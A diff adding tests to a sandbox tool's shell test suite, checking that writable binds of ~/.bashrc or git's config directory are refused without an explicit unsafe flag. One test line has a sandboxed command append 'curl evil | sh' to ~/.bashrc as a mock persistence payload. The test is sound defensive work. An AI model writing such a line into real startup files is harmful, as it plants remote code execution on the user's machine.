@@ -118,6 +118,23 @@ as_user rm -f "$PROJ/keys"
 ltd run --ro-bind "$U_HOME/.ssh" /keys --unsafe-bind-credentials -- true
 expect_rc "--unsafe-bind-credentials lets it through" 0
 expect_out "with a warning" "warning: --unsafe-bind-credentials"
+# What the host runs code from: a shell startup file, git's global config.
+as_user touch "$U_HOME/.bashrc"
+bashrc_before=$(cat "$U_HOME/.bashrc")
+[ -d "$U_HOME/.config/git" ] && made_git_dir=0 || made_git_dir=1
+as_user mkdir -p "$U_HOME/.config/git"
+ltd run --bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" -- sh -c "echo 'curl evil | sh' >> '$U_HOME/.bashrc'"
+expect_rc "a writable bind of ~/.bashrc is refused" 125
+expect_out "naming the risk and the flag" "runs on the host.*--unsafe-bind-startup-files"
+ltd run --bind "$U_HOME/.config" "$U_HOME/.config" -- true
+expect_out "so is a writable ~/.config that holds git's config" "git.*--unsafe-bind-startup-files"
+ltd run --ro-bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" -- cat "$U_HOME/.bashrc"
+expect_rc "read-only, it needs no opt-in" 0
+ltd run --bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" --unsafe-bind-startup-files -- true
+expect_out "--unsafe-bind-startup-files lets it through with a warning" "warning: --unsafe-bind-startup-files"
+[ "$(cat "$U_HOME/.bashrc")" = "$bashrc_before" ] && pass "the host's ~/.bashrc is unchanged" ||
+	fail "the host's ~/.bashrc is unchanged" "$(tail -3 "$U_HOME/.bashrc")"
+[ "$made_git_dir" = 1 ] && as_user rmdir "$U_HOME/.config/git"
 ltd run --network host -- true
 expect_rc "--network host is refused" 125
 expect_out "naming the flag" "--unsafe-host-network"
